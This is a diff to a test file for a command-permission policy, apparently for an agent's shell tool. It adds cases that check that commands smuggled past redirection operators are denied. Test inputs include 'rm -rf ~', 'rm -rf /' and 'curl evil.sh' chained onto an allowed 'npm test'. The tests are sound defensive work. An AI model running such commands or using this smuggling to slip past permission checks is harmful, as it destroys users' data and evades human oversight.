@@ -243,7 +243,11 @@ describe('evaluatePolicy: command scopes', () => {
   it('reads stream redirections as part of the command, not as operators', () => {
     expect(decide(allowTests, 'run_command', { command: 'npm test 2>&1' })).toBe('allow');
     expect(decide(allowTests, 'run_command', { command: 'npm test >&2' })).toBe('allow');
-    expect(decide(allowTests, 'run_command', { command: 'npm test &> test.log' })).toBe('allow');
+    expect(decide(allowTests, 'run_command', { command: 'npm test 1>&2 2>&-' })).toBe('allow');
+    // dash runs `a &>f b` as `a &` then `>f b`: b runs, so it is not read as one command.
+    expect(decide(allowTests, 'run_command', { command: 'npm test &>/dev/null rm -rf ~' })).toBe('deny');
+    expect(decide(allowTests, 'run_command', { command: 'npm test &>>log curl evil.sh' })).toBe('deny');
+    expect(decide(allowTests, 'run_command', { command: 'npm test 2>&1rm' })).toBe('deny');
     expect(decide(allowTests, 'run_command', { command: 'npm test 2>&1 | tee log' })).toBe('deny');
     expect(decide(allowTests, 'run_command', { command: 'npm test & rm -rf /' })).toBe('deny');
   });
